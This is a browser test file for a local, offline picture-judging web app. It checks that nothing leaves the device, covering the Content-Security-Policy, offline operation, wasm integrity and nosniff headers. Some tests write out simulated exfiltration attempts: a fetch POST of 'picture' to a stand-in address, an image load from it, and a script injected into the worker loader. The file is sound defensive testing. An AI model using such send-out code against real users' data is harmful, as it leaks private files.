// Nothing leaves the device, and the browser is told to see to that.

import assert from 'node:assert/strict';
import { after } from 'node:test';
import { saved } from './browsers.mjs';
import { SAMPLES, WEBGPU_FLAGS, fixture, judge, open, outcome, reached, test, visit } from './site.mjs';

const site = await open(after, WEBGPU_FLAGS);

test('a whole visit asks only for files of the site, and for none while it judges', async (t) => {
  const { page, requests, violations } = await visit(t, site);
  await reached(page, 'idle');
  // Thumbnails of the samples may come after the model.
  await page.waitForLoadState('networkidle');
  const loaded = requests.length;
  for (const picture of ['photo.jpg', 'alpha.png', 'photo.webp', 'make.py']) await judge(page, fixture(picture));
  assert.deepEqual(requests.slice(loaded).map((request) => request.url()).filter((url) => !url.startsWith('blob:')), []);

  await judge(page, fixture('photo.jpg'));
  await page.click('#second');
  await page.waitForSelector('#second-opinion:is([data-state="done"], [data-state="error"])');
  await page.click(`[data-sample="${SAMPLES[0].file}"]`);
  // The verdict on the photo stays until the sample is there.
  await page.waitForFunction(() => document.getElementById('file-name').textContent === 'Sample 1');
  await outcome(page);
  await saved(page, '#save');

  for (const request of requests) {
    const url = request.url();
    assert.equal(request.method(), 'GET', url);
    assert.equal(request.postData(), null, url);
    assert.ok(url.startsWith(site.url) || url.startsWith(`blob:${site.url}`), url);
    assert.ok(!url.includes('?'), url);
  }
  assert.deepEqual(violations, []);
});

test('nothing of wonnx, nor the network in floats, is fetched before somebody asks', async (t) => {
  const { page, requests } = await visit(t, site);
  await judge(page, fixture('photo.jpg'));
  const forWonnx = () => requests.map((request) => request.url()).filter((url) => /wonnx|models\/faces\//.test(url));
  assert.deepEqual(forWonnx(), []);
  await page.click('#second');
  await page.waitForSelector('#second-opinion:is([data-state="done"], [data-state="error"])');
  assert.ok(forWonnx().some((url) => url.endsWith('models/faces/stage1.onnx')), forWonnx().join('\n'));
});

test('with the network switched off, pictures are judged as before', async (t) => {
  const { page, context } = await visit(t, site);
  const online = await judge(page, fixture('photo.jpg'));
  await context.setOffline(true);
  assert.deepEqual(await judge(page, fixture('photo.jpg')), online);
});

test('a script on the page could send nothing elsewhere', async (t) => {
  const { page, violations } = await visit(t, site);
  await reached(page, 'idle');
  const escapes = await page.evaluate(async () => {
    const elsewhere = 'http://127.0.0.2:9/x';
    const failed = async (attempt) => {
      try {
        await attempt();
        return false;
      } catch {
        return true;
      }
    };
    return {
      fetch: await failed(() => fetch(elsewhere, { method: 'POST', body: 'picture' })),
      image: await failed(() => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = elsewhere;
      })),
      worker: await failed(() => new Worker('start.js')),
      markup: await failed(() => (document.body.innerHTML = '<p>x</p>')),
      policy: await failed(() => trustedTypes.createPolicy('other', {})),
      inline: await failed(() => new Function('return 1')()),
    };
  });
  assert.deepEqual(escapes, { fetch: true, image: true, worker: true, markup: true, policy: true, inline: true });
  // The test sees what it looks for in the other tests.
  for (const sign of [/connect-src/, /img-src/, /TrustedHTML|require-trusted-types-for/, /TrustedTypePolicy|^trusted-types/]) {
    // Reports take a moment.
    for (let tries = 0; tries < 50 && !violations.some((violation) => sign.test(violation)); tries++) await page.waitForTimeout(50);
    assert.ok(violations.some((violation) => sign.test(violation)), `no ${sign} in ${violations.join('\n')}`);
  }
});

test('neither could the worker, which has the picture', async (t) => {
  // What a script in the worker would do, which not every driver can put there later.
  const attempt = async () => {
    const violation = new Promise((resolve) => {
      addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
    });
    const sent = fetch('http://127.0.0.2:9/x', { method: 'POST', body: 'picture' }).then(
      () => 'sent',
      () => 'failed for another reason',
    );
    const end = sent.then((end) => new Promise((resolve) => setTimeout(resolve, 1000, end)));
    new BroadcastChannel('attempt').postMessage(await Promise.race([violation, end]));
  };
  const { page } = await visit(t, site, {
    before: async (page, context) => {
      await page.addInitScript(() => {
        window.directive = new Promise((resolve) => {
          new BroadcastChannel('attempt').onmessage = ({ data }) => resolve(data);
        });
      });
      await context.route('**/worker*_loader.js', async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${await response.text()};(${attempt})();` });
      });
    },
  });
  await reached(page, 'idle');
  const directive = await page.evaluate(() => window.directive);
  assert.equal(directive, 'connect-src', 'the answer with worker_loader.js must carry the policy');
});

test('the policy is in the page itself, without inline scripts and styles', async () => {
  const html = await (await fetch(site.url)).text();
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)/i);
  assert.doesNotMatch(html, /<style|\sstyle=|\son\w+=/i);
  assert.doesNotMatch(html, /'unsafe-inline'|'unsafe-eval'|https?:\/\//);
  assert.match(html, /http-equiv="?Content-Security-Policy/i);
  assert.equal(html.match(/<meta[^>]*Content-Security-Policy[^>]*>/i)[0].includes("default-src 'none'"), true);
});

test('a page whose wasm is not the one that was built does not start', async (t) => {
  const { page } = await visit(t, site, {
    before: (page, context) =>
      context.route('**/app_bg.wasm', async (route) => {
        const response = await route.fetch();
        const body = await response.body();
        body[body.length - 1] ^= 1;
        await route.fulfill({ response, body });
      }),
  });
  await page.waitForSelector('#app[data-state="start-failed"]', { state: 'attached' });
  assert.equal(await page.locator('link[rel="preload"]').count(), 0);
});

test('no answer of the page can be rendered as another kind of file', async () => {
  for (const [name, type] of [['app_bg.wasm', 'application/wasm'], ['app.js', 'text/javascript'], ['style.css', 'text/css']]) {
    // HEAD, since a body that nobody reads keeps its connection, and with it this process, alive.
    const response = await fetch(new URL(name, site.url), { method: 'HEAD' });
    assert.ok(response.headers.get('content-type').startsWith(type), name);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', name);
  }
});
